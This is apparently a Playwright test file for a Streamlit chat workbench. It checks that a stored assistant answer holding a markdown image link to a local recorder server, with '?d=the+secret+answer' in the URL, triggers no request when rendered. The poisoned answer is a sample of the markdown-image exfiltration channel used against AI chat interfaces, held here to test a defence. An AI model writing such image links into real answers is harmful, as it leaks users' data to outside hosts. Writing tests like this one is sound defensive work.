"""Case, in a real browser: a stored answer holding `![x](http://127.0.0.1:PORT/leak.png?d=...)`
is opened in `streamlit run app.py` through Debian's chromium; the local server behind that
URL must see no request. A fetch of the same server from the page shows it was reachable,
so silence means nothing was asked for."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.ui.test_browser import page, running_app  # noqa: F401
from workbench.config import load_settings
from workbench.storage import Storage


@pytest.fixture
def leak_server() -> Iterator[tuple[str, list[str]]]:
    """A server on 127.0.0.1 recording every path asked of it."""
    asked: list[str] = []

    class Recorder(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 (the http.server API)
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        def log_message(self, *args) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", asked
    server.shutdown()


@pytest.fixture
def poisoned_app(tmp_path: Path, leak_server) -> Iterator[tuple[str, int]]:
    """`streamlit run app.py` over a data dir holding one conversation with a poisoned answer."""
    leak_url, _ = leak_server
    settings = load_settings(data_dir=tmp_path / "data")
    storage = Storage(settings.db_path)
    project = storage.ensure_project("default")
    conversation = storage.create_conversation(project.id, "Write a lowpass")
    storage.add_message(conversation.id, "user", "Write a lowpass")
    storage.add_message(conversation.id, "assistant",
                        f"Here it is.\n\n![x]({leak_url}/leak.png?d=the+secret+answer)\n\n"
                        f"See [the docs]({leak_url}/docs).")
    storage.close()
    with running_app(tmp_path, {"WORKBENCH_DATA_DIR": str(settings.data_dir)}) as url:
        yield url, conversation.id


def test_an_image_in_a_stored_answer_makes_no_request(poisoned_app, leak_server, page: Page):  # noqa: F811
    url, conversation_id = poisoned_app
    leak_url, asked = leak_server
    page.goto(f"{url}/?project=default&conversation={conversation_id}")
    answer = page.get_by_test_id("stChatMessage").nth(1)
    expect(answer).to_contain_text("image: x", timeout=30_000)
    expect(answer).to_contain_text(f"{leak_url}/docs")  # the link's target, shown
    page.wait_for_load_state("networkidle")
    assert answer.locator("img").count() == 0 and asked == []
    page.evaluate(f"fetch('{leak_url}/reachable').then(r => r.status)")  # the control
    assert asked == ["/reachable"]
